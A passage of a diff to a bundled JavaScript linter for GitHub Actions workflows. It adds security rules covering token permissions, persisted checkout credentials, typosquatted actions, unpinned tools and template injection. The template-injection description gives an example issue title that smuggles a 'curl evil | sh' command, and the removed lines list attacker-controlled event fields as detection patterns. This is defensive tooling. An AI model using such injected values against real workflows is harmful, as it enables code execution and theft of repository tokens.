+                    message: `${r.owner}/${r.repo} ${claim.version}${claim.fromComment ? ' (by its version comment)' : ''} is affected by ${a.id} (${a.aliases.join(', ') || 'no CVE'}): ${a.summary}`,
+                    line,
+                    confidence: claim.fromComment ? 'medium' : 'high',
+                    fix: a.patched ? `Upgrade to ${a.patched} or later.` : 'Pin to a commit released after the advisory.',
+                });
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/obfuscation.ts
+
+
+
+/** `uses:` paths with `//`, `.` or `..` segments, and no-op expressions that hide what a value is. */
+const obfuscation = {
+    id: 'obfuscation',
+    title: 'Obfuscated uses: path or expression',
+    severity: 'low',
+    confidence: 'high',
+    category: 'security',
+    description: 'Redundant path segments in `uses:` (`actions//checkout`, `owner/repo/./x`) and no-op expressions (`fromJSON(toJSON(x))`, `format()` of literals only) work the same but hide from reviewers and auditors what a step runs.',
+    fix: 'Write the path and the value plainly.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const { uses, line } of usesOf(model)) {
+            if (uses.startsWith('docker://'))
+                continue;
+            const path = uses.replace(/@[^@]*$/, '');
+            const segments = path.split('/');
+            // `./` (the repository's root action) and `./path/` are plain local paths.
+            const local = path.startsWith('./');
+            if (/\/\//.test(path) || segments.some((s, i) => (s === '.' && i > 0) || s === '..') || (!local && path.endsWith('/')))
+                out.push({ message: `'${uses}' has redundant path segments`, line });
+        }
+        for (const { node, source, expr } of allExpressions(model)) {
+            let why;
+            visitAll(expr, (n) => {
+                if (!(n instanceof FunctionCall))
+                    return;
+                const name = callName(n);
+                const inner = n.args[0];
+                if (name === 'fromjson' && inner instanceof FunctionCall && callName(inner) === 'tojson')
+                    why = 'fromJSON(toJSON(...)) is the value itself';
+                if (name === 'format' && n.args.length > 0 && n.args.every(isConstant))
+                    why = 'format() of literals is a literal';
+            });
+            if (why)
+                out.push({ message: `\${{ ${source} }}: ${why}`, line: node.line });
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/permissions.ts
+
+/** Jobs that run with the repository's default token because nothing sets `permissions`. */
+const permissionsMissing = {
+    id: 'permissions-missing',
+    title: 'GITHUB_TOKEN permissions not declared',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: "Without a `permissions` block a job's GITHUB_TOKEN gets the repository or organisation default, which is write access to contents, packages and more on many repositories.",
+    fix: 'Add `permissions: {}` at the top of the workflow and grant each job only what it needs, e.g. `permissions: { contents: read }` (`slipway audit --fix` infers the grants of well-known actions).',
+    appliesTo: ['workflow'],
+    check(model) {
+        if (yaml_tree_child(model.root, 'permissions') !== undefined)
+            return [];
+        // A workflow only ever called gets at most its caller's grants: the caller decides.
+        const calledOnly = model.triggers.size > 0 && [...model.triggers.keys()].every((t) => t === 'workflow_call');
+        return model.jobs
+            .filter((job) => yaml_tree_child(job.node, 'permissions') === undefined)
+            .map((job) => ({
+            message: calledOnly
+                ? `job '${job.id}' declares no permissions and takes whatever its caller grants`
+                : `job '${job.id}' runs with the default token permissions (no permissions at workflow or job level)`,
+            line: job.line,
+            ...(calledOnly ? { confidence: 'medium' } : {}),
+        }));
+    },
+};
+function broadGrants(node, where, topLevel, jobs) {
+    if (!node)
+        return [];
+    const scalar = yaml_tree_text(node);
+    if (scalar === 'write-all') {
+        return [{ message: `${where} grants write-all: every scope of the token can write`, line: node.line, severity: 'high' }];
+    }
+    if (scalar === 'read-all') {
+        return [
+            {
+                message: `${where} grants read-all: the token can read every scope (private code, secrets scanning alerts, packages), not only what the job uses`,
+                line: node.line,
+                fix: 'Grant only the scopes the jobs read: `permissions: { contents: read }`.',
+            },
+        ];
+    }
+    // At workflow level a write grant reaches every job, including those that run untrusted tools;
+    // with one job it is that job's grant, until a second job is added.
+    if (!topLevel)
+        return [];
+    return yaml_tree_entries(node)
+        .filter(([, v]) => yaml_tree_text(v) === 'write')
+        .map(([scope]) => ({
+        message: `${where} grants '${scope}: write' to every job`,
+        line: keyLine(node, scope),
+        ...(jobs < 2 ? { confidence: 'medium' } : {}),
+        fix: `Set \`permissions: {}\` at workflow level and grant \`${scope}: write\` only in the job that needs it.`,
+    }));
+}
+/** `write-all`, `read-all`, or write scopes granted to the whole workflow instead of the one job that needs them. */
+const permissionsBroad = {
+    id: 'permissions-broad',
+    title: 'GITHUB_TOKEN permissions broader than needed',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: 'A token that can write is what an attacker who gets code execution in a job (a poisoned dependency, an injected script) uses to push code, publish packages or mint OIDC tokens; `read-all` hands every job read access to everything the repository holds.',
+    fix: 'Grant scopes per job, and only the scopes that job uses; never `write-all` or `read-all`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = broadGrants(yaml_tree_child(model.root, 'permissions'), 'the workflow', true, model.jobs.length);
+        for (const job of model.jobs)
+            out.push(...broadGrants(yaml_tree_child(job.node, 'permissions'), `job '${job.id}'`, false, 1));
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/persist-credentials.ts
+
+
+/** The major version of a `uses:` ref (`v4.2.2` -> 4), or undefined for a SHA or branch. */
+function majorOf(uses, comment) {
+    const ref = uses.slice(uses.lastIndexOf('@') + 1);
+    const m = /^v(\d+)/.exec(ref) ?? /#\s*v(\d+)/.exec(comment);
+    return m ? Number(m[1]) : undefined;
+}
+/** What an upload step publishes: its `path:` lines. */
+function uploadsWorkspace(path) {
+    if (path === undefined)
+        return true;
+    // A path that names the checkout root (or everything) includes the credentials when they sit in .git/config.
+    return path.split('\n').some((p) => /^(\.\/?|\*\*?|\$\{\{\s*github\.workspace\s*\}\}\/?)$/.test(p.trim()));
+}
+/** `actions/checkout` keeping the token on disk (ArtiPACKED). */
+const persistCredentials = {
+    id: 'persist-credentials',
+    title: 'Checkout credentials persisted on disk',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: "Unless `persist-credentials: false`, actions/checkout leaves the job's token on disk for later git commands: in .git/config before v6, in a file under $RUNNER_TEMP from v6. An artifact that uploads the checkout root publishes the .git/config copy to anyone who can download the run's artifacts (ArtiPACKED, 2024); any later step (a build script, a dependency) can read either copy.",
+    fix: 'Add `with: { persist-credentials: false }` to the checkout step (or `true` with a comment where a later git push needs it).',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs) {
+            const uploads = job.steps.filter((s) => s.uses && UPLOADERS.has(workflow_model_actionName(s.uses)));
+            for (const step of job.steps) {
+                if (!step.uses || workflow_model_actionName(step.uses) !== 'actions/checkout')
+                    continue;
+                const persist = withValue(step, 'persist-credentials');
+                if (persist !== undefined)
+                    continue;
+                const major = majorOf(step.uses, model.doc.lines[step.usesLine - 1] ?? '');
+                const inGitConfig = major === undefined || major < 6;
+                const leaking = uploads.filter((u) => u.index > step.index && uploadsWorkspace(withValue(u, 'path')));
+                if (leaking.length > 0 && inGitConfig) {
+                    out.push({
+                        message: `job '${job.id}' uploads the checkout root (line ${leaking[0]?.usesLine}) after a checkout that keeps the token in .git/config`,
+                        line: step.usesLine,
+                    });
+                }
+                else {
+                    out.push({
+                        message: `checkout in job '${job.id}' keeps the token on disk (${inGitConfig ? 'in .git/config' : 'under $RUNNER_TEMP'}) for every later step`,
+                        line: step.usesLine,
+                        severity: inGitConfig ? 'medium' : 'low',
+                        confidence: 'medium',
+                    });
+                }
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/references.ts
+
+
+/** The keys a job's matrix defines (its axes and include keys), or undefined when it is computed. */
+function matrixKeys(job) {
+    const m = job.matrix;
+    if (!m)
+        return new Set();
+    if (m.kind !== 'map')
+        return undefined;
+    const keys = new Set();
+    for (const [k, v] of yaml_tree_entries(m)) {
+        if (k === 'include')
+            for (const i of yaml_tree_items(v))
+                for (const [ik] of yaml_tree_entries(i))
+                    keys.add(ik);
+        else if (k !== 'exclude')
+            keys.add(k);
+        if (yaml_tree_text(v)?.includes('${{'))
+            return undefined;
+    }
+    return keys;
+}
+/** Every `${{ }}` (and bare `if:`) of a node, with the scalar it sits in. */
+function expressionsIn(node, bareIf, out = []) {
+    if (!node)
+        return out;
+    if (node.kind === 'scalar') {
+        if (typeof node.value === 'string')
+            for (const e of embeddedExpressions(node.value))
+                out.push({ node, source: e.source });
+    }
+    else if (node.kind === 'seq')
+        node.items.forEach((i) => expressionsIn(i, bareIf, out));
+    else
+        for (const [k, v] of node.entries) {
+            if (bareIf && k === 'if' && v.kind === 'scalar' && typeof v.value === 'string' && !v.value.includes('${{'))
+                out.push({ node: v, source: conditionSource(v.value) });
+            else
+                expressionsIn(v, bareIf, out);
+        }
+    return out;
+}
+/** `steps.<id>`, `needs.<job>` and `matrix.<key>` that name nothing, and step outputs read before the step runs. */
+const unknownReference = {
+    id: 'unknown-reference',
+    title: 'Expression names a step, job or matrix key that does not exist',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'validation',
+    description: "GitHub's parser accepts `steps.bulid.outputs.x`, `needs.lint.result` without `needs: lint`, and `matrix.node` without that axis; at run time each is an empty string, so a condition silently goes the wrong way or a script gets nothing.",
+    fix: 'Correct the name, add the job to `needs:`, or add the key to the matrix.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        const jobIds = new Set(model.jobs.map((j) => j.id));
+        for (const job of model.jobs) {
+            const keys = matrixKeys(job);
+            const needs = new Set(job.needs);
+            const scan = (node, stepIndex) => {
+                for (const { node: at, source } of expressionsIn(node, true)) {
+                    const e = parseExpression(source);
+                    if (!e)
+                        continue;
+                    for (const p of readPaths(e)) {
+                        if (p.length < 2)
+                            continue;
+                        const [root, name = ''] = p;
+                        if (name === '*' || name === '?')
+                            continue;
+                        if (root === 'needs' && !needs.has(name))
+                            out.push({
+                                message: `job '${job.id}' reads needs.${name}${jobIds.has(name) ? ` but does not list '${name}' in needs:` : `, and there is no job '${name}'`}`,
+                                line: at.line,
+                            });
+                        if (root === 'matrix' && keys && !keys.has(name) && p.length >= 2)
+                            out.push({ message: `job '${job.id}' reads matrix.${name}, which its matrix does not define`, line: at.line });
+                        if (root === 'steps' && stepIndex !== undefined) {
+                            const target = job.steps.find((s) => s.id === name);
+                            if (!target)
+                                out.push({ message: `job '${job.id}' reads steps.${name}, and no step has that id`, line: at.line });
+                            else if (target.index >= stepIndex)
+                                out.push({ message: `step ${stepIndex + 1} of '${job.id}' reads steps.${name}, which runs later`, line: at.line });
+                        }
+                    }
+                }
+            };
+            // Steps see only the steps before them; job-level keys (outputs, if) are checked without order.
+            job.steps.forEach((s) => scan(s.node, s.index));
+            for (const key of [
+                'if',
+                'runs-on',
+                'env',
+                'container',
+                'services',
+                'environment',
+                'concurrency',
+                'timeout-minutes',
+                'continue-on-error',
+                'with',
+                'secrets',
+            ])
+                scan(yaml_tree_child(job.node, key), undefined);
+            const outputs = yaml_tree_child(job.node, 'outputs');
+            for (const { node: at, source } of expressionsIn(outputs, false)) {
+                const e = parseExpression(source);
+                if (!e)
+                    continue;
+                for (const p of readPaths(e))
+                    if (p[0] === 'steps' && p[1] && !job.steps.some((s) => s.id === p[1]))
+                        out.push({ message: `an output of job '${job.id}' reads steps.${p[1]}, and no step has that id`, line: at.line });
+            }
+        }
+        return out;
+    },
+};
+/** `exclude:` entries naming keys that no matrix axis has: they exclude nothing. */
+const matrixKeysRule = {
+    id: 'matrix-keys',
+    title: 'Matrix exclude names a key or value the matrix does not have',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'validation',
+    description: 'An exclude entry matches only combinations of existing axes and values; a misspelt key or value excludes nothing and the combination still runs.',
+    fix: 'Use the axis names and values of the matrix in exclude entries.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs) {
+            const m = job.matrix;
+            if (m?.kind !== 'map')
+                continue;
+            const axes = new Map();
+            for (const [k, v] of yaml_tree_entries(m)) {
+                if (k === 'include' || k === 'exclude')
+                    continue;
+                const values = v.kind === 'seq' ? new Set(v.items.map((i) => (i.kind === 'scalar' ? String(i.value) : JSON.stringify(i)))) : undefined;
+                axes.set(k, values);
+            }
+            for (const ex of yaml_tree_items(yaml_tree_child(m, 'exclude'))) {
+                for (const [k, v] of yaml_tree_entries(ex)) {
+                    if (!axes.has(k))
+                        out.push({ message: `an exclude of job '${job.id}' names '${k}', which is not an axis of the matrix`, line: ex.line });
+                    else {
+                        const values = axes.get(k);
+                        const value = v.kind === 'scalar' ? String(v.value) : undefined;
+                        if (values && value !== undefined && !value.includes('${{') && !values.has(value))
+                            out.push({ message: `an exclude of job '${job.id}' names ${k}: ${value}, which is not a value of that axis`, line: v.line });
+                    }
+                }
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/supply-chain.ts
+
+
+
+
+/** Actions from repositories GitHub has archived (known list; the online audit asks the API). */
+const archivedUses = {
+    id: 'archived-uses',
+    title: 'Action from an archived repository',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: 'An archived repository is read-only: vulnerabilities found in the action (or the dependencies it vendors) are never fixed.',
+    fix: 'Replace the action with a maintained one, or with the command it wraps.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const { uses, line } of usesOf(model)) {
+            if (!workflow_model_remoteUses(uses))
+                continue;
+            const repo = actionRepo(uses);
+            const instead = ARCHIVED[repo];
+            if (instead !== undefined)
+                out.push({ message: `${repo} is archived${instead ? `; use ${instead}` : ''}`, line });
+        }
+        return out;
+    },
+};
+/** Actions whose job the runner's own tools do in one line. */
+const superfluousActions = {
+    id: 'superfluous-actions',
+    title: "Action that the runner's own tools replace",
+    severity: 'low',
+    confidence: 'medium',
+    category: 'hygiene',
+    description: "Every third-party action is code with access to the job's token; when `gh`, `docker` or `jq` on the runner does the same in one line, the action only adds risk.",
+    fix: "Replace the step with a run: step using the runner's tool.",
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                const advice = step.uses ? SUPERFLUOUS[workflow_model_actionName(step.uses)] : undefined;
+                if (advice)
+                    out.push({ message: `${workflow_model_actionName(step.uses ?? '')}: ${advice}`, line: step.usesLine });
+            }
+        return out;
+    },
+};
+/** Setup actions told to install the latest version of a tool. */
+const unpinnedTools = {
+    id: 'unpinned-tools',
+    title: 'Tool installed at whatever version is latest',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: 'A setup action asked for `latest` installs whatever was released last, including a compromised release, the next time the job runs.',
+    fix: "Name the tool's exact version in the input.",
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                const known = step.uses ? UNPINNED_TOOLS[workflow_model_actionName(step.uses)] : undefined;
+                if (!known)
+                    continue;
+                const v = withValue(step, known.input);
+                if (v === undefined && known.defaultUnpinned)
+                    out.push({ message: `${workflow_model_actionName(step.uses ?? '')} without '${known.input}' installs the latest release`, line: step.usesLine });
+                else if (v !== undefined && known.latest.test(v.trim()))
+                    out.push({
+                        message: `${workflow_model_actionName(step.uses ?? '')} '${known.input}: ${v}' installs the latest release`,
+                        line: yaml_tree_child(step.with, known.input)?.line ?? step.usesLine,
+                    });
+            }
+        return out;
+    },
+};
+const ADHOC = [
+    { re: /\bgem install\s+(?!-)(?![^\n]*\s(-v|--version)\b)[\w-]+/, what: 'gem install without a version' },
+    {
+        re: /\b(pip3?|python3? -m pip) install\s+(?![^\n]*(-r |--requirement|-e |\.\s|\.$|\.\[|==))(?:-U\s+|--upgrade\s+|--user\s+)*[A-Za-z][\w.-]*(\s|$)/,
+        what: 'pip install without a version or lockfile',
+    },
+    { re: /\bnpm (i|install) (-g|--global) (?![^\n]*@\d)[\w@/-]+/, what: 'a global npm install without a version' },
+    { re: /\bgo install [^\s@]+@latest\b/, what: 'go install @latest' },
+    { re: /\bcargo install (?![^\n]*--(version|locked))[\w-]+/, what: 'cargo install without --version or --locked' },
+];
+/** Packages installed by name in scripts, outside any lockfile. */
+const adhocPackages = {
+    id: 'adhoc-packages',
+    title: 'Package installed in a script without a pinned version',
+    severity: 'low',
+    confidence: 'medium',
+    category: 'security',
+    description: 'A package installed by name takes whatever the registry serves that day (a typosquat, a compromised release); a lockfile or an exact version decides what runs.',
+    fix: 'Pin the exact version (`pip install tool==1.2.3`, `gem install tool -v 1.2.3`) or install from a lockfile.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                if (step.run === undefined)
+                    continue;
+                for (const a of ADHOC)
+                    if (a.re.test(step.run))
+                        out.push({ message: `a step of '${job.id}' runs ${a.what}`, line: step.runLine });
+            }
+        return out;
+    },
+};
+const TOKEN_ENV = /^(TWINE_PASSWORD|NODE_AUTH_TOKEN|NPM_TOKEN|CARGO_REGISTRY_TOKEN|GEM_HOST_API_KEY|PYPI_TOKEN|PYPI_API_TOKEN)$/;
+/** Publishing to PyPI, npm, crates.io or RubyGems with a long-lived token where OIDC trusted publishing exists. */
+const useTrustedPublishing = {
+    id: 'use-trusted-publishing',
+    title: 'Package published with a long-lived token',
+    severity: 'low',
+    confidence: 'high',
+    category: 'security',
+    description: 'PyPI, npm, crates.io and RubyGems accept short-lived OIDC tokens from a named workflow (trusted publishing); a stored API token works from anywhere for as long as it lives.',
+    fix: 'Configure trusted publishing on the registry, give the job `permissions: { id-token: write }` and drop the token.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                const pub = step.uses ? PUBLISHERS[workflow_model_actionName(step.uses)] : undefined;
+                const input = pub?.tokenInputs.find((i) => withValue(step, i)?.includes('secrets.'));
+                if (pub && input)
+                    out.push({
+                        message: `${workflow_model_actionName(step.uses ?? '')} publishes to ${pub.registry} with a stored token ('${input}')`,
+                        line: yaml_tree_child(step.with, input)?.line ?? step.usesLine,
+                    });
+                if (step.run !== undefined &&
+                    /\b(twine upload|npm publish|pnpm publish|yarn npm publish|cargo publish|gem push)\b/.test(step.run)) {
+                    const envs = [step.env, job.env, model.env].flatMap((e) => yaml_tree_entries(e));
+                    const token = envs.find(([k, v]) => TOKEN_ENV.test(k) && (yaml_tree_text(v) ?? '').includes('secrets.'));
+                    if (token)
+                        out.push({ message: `a step of '${job.id}' publishes with ${token[0]} from a secret`, line: step.runLine });
+                }
+            }
+        return out;
+    },
+};
+/** actions/create-github-app-token without scoping: every permission of the app, on every repository. */
+const githubApp = {
+    id: 'github-app',
+    title: "GitHub App token with the app's full permissions",
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: 'Without `permission-<scope>` inputs the token gets every permission the app was installed with; with `owner` but no `repositories` it reaches every repository of the installation; `skip-token-revoke` keeps it valid after the job.',
+    fix: 'Add the `permission-<scope>` inputs the job needs, name the `repositories`, and let the action revoke the token.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                if (!step.uses || workflow_model_actionName(step.uses) !== 'actions/create-github-app-token')
+                    continue;
+                const inputs = yaml_tree_entries(step.with).map(([k]) => k);
+                if (!inputs.some((k) => k.startsWith('permission-')))
+                    out.push({ message: `the app token of job '${job.id}' gets every permission of the installation`, line: step.usesLine });
+                if (inputs.includes('owner') && !inputs.includes('repositories'))
+                    out.push({
+                        message: `the app token of job '${job.id}' reaches every repository of '${withValue(step, 'owner') ?? ''}'`,
+                        line: yaml_tree_child(step.with, 'owner')?.line ?? step.usesLine,
+                    });
+                if (withValue(step, 'skip-token-revoke') === 'true')
+                    out.push({
+                        message: `the app token of job '${job.id}' is not revoked after the job`,
+                        line: yaml_tree_child(step.with, 'skip-token-revoke')?.line ?? step.usesLine,
+                    });
+            }
+        return out;
+    },
+};
+/** `./path` where `$/path` says the same repository explicitly. */
+const selfRepository = {
+    id: 'self-repository',
+    title: 'Local uses: without the same-repository syntax',
+    severity: 'low',
+    confidence: 'low',
+    category: 'hygiene',
+    description: "`uses: $/path@ref` names this repository explicitly; `./path` reads whatever the job checked out there, which is a fork's code after a checkout of the PR head.",
+    fix: 'Write `uses: $/path/to/action@<ref>`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        return usesOf(model)
+            .filter((u) => u.uses.startsWith('./'))
+            .map((u) => ({ message: `'${u.uses}' reads the checked-out tree`, line: u.line }));
+    },
+};
+/** Uses the organisation forbids (configured patterns). */
+const forbiddenUses = {
+    id: 'forbidden-uses',
+    title: 'Forbidden action',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: 'The organisation forbids these actions (the `forbidden-uses` option).',
+    fix: 'Replace the action with an allowed one.',
+    appliesTo: ['workflow', 'action'],
+    check(model, options) {
+        const patterns = (options.forbiddenUses ?? []).map((p) => p.toLowerCase());
+        if (patterns.length === 0)
+            return [];
+        const out = [];
+        for (const { uses, line } of usesOf(model)) {
+            const name = workflow_model_actionName(uses);
+            const hit = patterns.find((p) => (p.endsWith('/*') ? name.startsWith(p.slice(0, -1)) : name === p || name.startsWith(`${p}/`)));
+            if (hit)
+                out.push({ message: `'${uses}' matches the forbidden pattern '${hit}'`, line });
+        }
+        return out;
+    },
+};
+
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/template-injection.ts
 
 
-// Fields of event payloads that anyone who can open an issue, a PR or push a branch controls.
-const ATTACKER_CONTROLLED = [
-    /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
-    /^github\.event\.(comment|review|review_comment)\.body$/,
-    /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
-    /^github\.event\.(head_commit|commits\[?.*?\]?)\.(message|author\.(name|email))/,
-    /^github\.event\.workflow_run\.(head_branch|head_commit\.message|display_title)/,
-    /^github\.event\.pages\[?.*?\]?\.page_name$/,
-    /^github\.head_ref$/,
-];
-// Values the runner or GitHub produce, with no text an outsider chooses.
-const SAFE = [
-    /^github\.(sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|workspace|action_path|event_name|job|server_url|api_url|graphql_url|retention_days|workflow_sha)$/,
-    /^runner\.\w+$/,
-    /^strategy\.\w+$/,
-    /^job\.status$/,
-    /^(true|false|null|-?\d+(\.\d+)?)$/,
-];
-/** The context paths an expression reads: `github.event.issue.title`, `inputs.name`, ... */
-function contextPaths(expression) {
-    // Index syntax (`github.event['comment'].body`) becomes dots before string literals are blanked.
-    const dotted = expression.replace(/\[\s*'([\w-]+)'\s*\]/g, '.$1');
-    const withoutStrings = dotted.replace(/'(?:[^']|'')*'/g, "''");
-    return [
-        ...withoutStrings.matchAll(/\b(github|inputs|steps|needs|matrix|env|vars|secrets|jobs|runner|strategy|job)((?:\.[\w-]+|\[[^\]]*\]|\.\*)*)/g),
-    ].map((m) => `${m[1]}${m[2] ?? ''}`);
-}
-/** The severity of one expression inside a script, or undefined when it is harmless there. */
-function injectionSeverity(expression) {
-    const paths = contextPaths(expression);
-    if (paths.length === 0)
+
+
+/** The finding for one expression in code, or undefined when nothing an outsider writes reaches it. */
+function judgeExpression(source, scope, exposure) {
+    const parsed = templateExpressions(`\${{ ${source} }}`)[0]?.parsed;
+    if (!parsed)
         return undefined;
-    if (paths.some((p) => ATTACKER_CONTROLLED.some((r) => r.test(p))))
-        return 'critical';
-    if (paths.some((p) => p.startsWith('github.event.')))
-        return 'high';
-    if (paths.every((p) => SAFE.some((r) => r.test(p))))
+    const origin = worst(expressionSources(parsed, scope));
+    if (!origin || origin.taint !== 'free')
         return undefined;
-    return 'medium';
+    const severity = injectionSeverity(origin.taint, exposure);
+    return severity ? { severity, confidence: origin.confidence, origin } : undefined;
 }
-/** The line an offset of a scalar's text is on: block scalars start on the line after the key. */
-function lineWithin(model, node, value, offset) {
-    const header = model.doc.lines[node.line - 1] ?? '';
-    const block = /[|>][-+0-9]*\s*(#.*)?$/.test(header.trimEnd());
-    const before = value.slice(0, offset).split('\n').length - 1;
-    return node.line + (block ? 1 : 0) + before;
+/** An environment variable name for an expression, for the fix text. */
+function envName(expression) {
+    return (expression
+        .replace(/^.*\.(?=[\w-]+$)/, '')
+        .replace(/[^\w]+/g, '_')
+        .replace(/^_+|_+$/g, '')
+        .slice(0, 30)
+        .toUpperCase() || 'VALUE');
 }
-function scan(model, node, where, out) {
-    const value = yaml_tree_text(node);
-    if (!node || value === undefined)
-        return;
-    for (const match of value.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
-        const expression = (match[1] ?? '').trim();
-        const severity = injectionSeverity(expression);
-        if (!severity)
-            continue;
-        const name = expression
-            .replace(/[^\w.-]+/g, '_')
-            .replace(/^_+|_+$/g, '')
-            .slice(0, 40)
-            .toUpperCase()
-            .replace(/[.-]/g, '_') || 'VALUE';
-        out.push({
-            message: `\${{ ${expression} }} is expanded into ${where} before the shell runs it`,
-            line: lineWithin(model, node, value, match.index),
-            severity,
-            fix: `Pass it through the environment: \`env: { ${name}: \${{ ${expression} }} }\` and use "$${name}" in the script.`,
-        });
-    }
-}
-/** `${{ }}` with untrusted or variable data expanded inside `run:` scripts (and github-script's `script`). */
+/** `${{ }}` whose value an outsider writes, expanded inside code: run: scripts, github-script, script inputs of well-known actions. */
 const templateInjection = {
     id: 'template-injection',
-    title: 'Expression expanded inside a script',
-    severity: 'medium',
-    description: 'Expressions are substituted into the script text before the shell parses it, so an issue title such as `"; curl evil | sh; #` becomes code. Event payloads are attacker-controlled; inputs and step outputs often carry them onward.',
+    title: 'Outsider-controlled expression expanded inside code',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: 'Expressions are substituted into the script text before the shell (or JavaScript, or the remote shell) parses it, so an issue title such as `"; curl evil | sh; #` becomes code. Only values an outsider writes freely are reported (titles, bodies, branch names, commit messages, comments), followed through static env and matrix values; numbers, SHAs, booleans and secrets cannot carry code.',
     fix: 'Move the expression into `env:` and reference the variable (`"$TITLE"`) in the script.',
     appliesTo: ['workflow', 'action'],
     check(model) {
         const out = [];
         for (const job of model.jobs) {
             for (const step of job.steps) {
-                if (step.run !== undefined)
-                    scan(model, yaml_tree_child(step.node, 'run'), 'the run: script', out);
-                if (step.uses && actionName(step.uses) === 'actions/github-script')
-                    scan(model, yaml_tree_child(step.with, 'script'), "github-script's script", out);
+                const sinks = codeSinks(step);
+                if (sinks.length === 0)
+                    continue;
+                const scope = stepScope(model, job, step);
+                for (const sink of sinks) {
+                    for (const e of templateExpressions(sink.value)) {
+                        if (!e.parsed)
+                            continue;
+                        const verdict = judgeExpression(e.source, scope, model.exposure);
+                        if (!verdict)
+                            continue;
+                        const name = envName(e.source);
+                        out.push({
+                            message: `\${{ ${e.source} }} carries ${verdict.origin.path}, which an outsider writes, into ${sink.where}${model.exposure === 'privileged' ? ` of a workflow triggered by ${[...model.triggers.keys()].join(', ')}` : ''}`,
+                            line: lineWithin(model, sink.node, sink.value, e.start),
+                            severity: verdict.severity,
+                            confidence: verdict.confidence,
+                            fix: `Pass it through the environment: \`env: { ${name}: \${{ ${e.source} }} }\` and use "$${name}" in the script.`,
+                        });
+                    }
+                }
             }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/typosquat-uses.ts
+
+
+
+/** Damerau-Levenshtein distance, capped: only 0, 1 and "more" matter here. */
+function near(a, b) {
+    if (a === b || Math.abs(a.length - b.length) > 1)
+        return false;
+    if (a.length === b.length) {
+        const diff = [...a].map((c, i) => (c === b[i] ? -1 : i)).filter((i) => i >= 0);
+        if (diff.length === 1)
+            return true;
+        const [i, j] = diff;
+        return diff.length === 2 && i !== undefined && j === i + 1 && a[i] === b[j] && a[j] === b[i];
+    }
+    const [short, long] = a.length < b.length ? [a, b] : [b, a];
+    for (let i = 0; i < long.length; i += 1)
+        if (long.slice(0, i) + long.slice(i + 1) === short)
+            return true;
+    return false;
+}
+const POPULAR = new Set(POPULAR_ACTIONS);
+/** The popular action a repository name is one typo away from, if any. */
+const squats = new Map();
+function typosquatOf(slug) {
+    if (POPULAR.has(slug))
+        return undefined;
+    if (squats.has(slug))
+        return squats.get(slug);
+    const bare = slug.replace(/[-_.]/g, '');
+    const found = POPULAR_ACTIONS.find((p) => near(slug, p) || bare === p.replace(/[-_.]/g, ''));
+    if (squats.size > 10_000)
+        squats.clear();
+    squats.set(slug, found);
+    return found;
+}
+/** `uses:` of a repository one typo away from a popular action (`actons/checkout`). */
+const typosquatUses = {
+    id: 'typosquat-uses',
+    title: 'Action name one typo away from a popular action',
+    severity: 'high',
+    confidence: 'medium',
+    category: 'security',
+    description: 'Attackers register repositories named like popular actions with one letter changed; a workflow that makes the typo runs their code with its token and secrets. With a token, the online audit checks that the look-alike repository exists and raises the confidence.',
+    fix: 'Correct the name to the action you meant.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const { uses, line } of usesOf(model)) {
+            const r = workflow_model_remoteUses(uses);
+            if (!r)
+                continue;
+            const of = typosquatOf(`${r.owner}/${r.repo}`);
+            if (of)
+                out.push({ message: `'${r.owner}/${r.repo}' is one typo away from ${of}`, line });
         }
         return out;
     },
@@ -36990,34 +39339,44 @@ const templateInjection = {
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/untrusted-checkout.ts
 
-
 // Refs, repositories and run ids that point at code or files a pull request's author wrote.
-const UNTRUSTED_REF = /github\.event\.pull_request\.head\.(sha|ref|repo)|github\.head_ref|github\.event\.workflow_run\.(head_sha|head_branch|head_repository|id)|refs\/pull\/|github\.event\.(number|pull_request\.number)/;
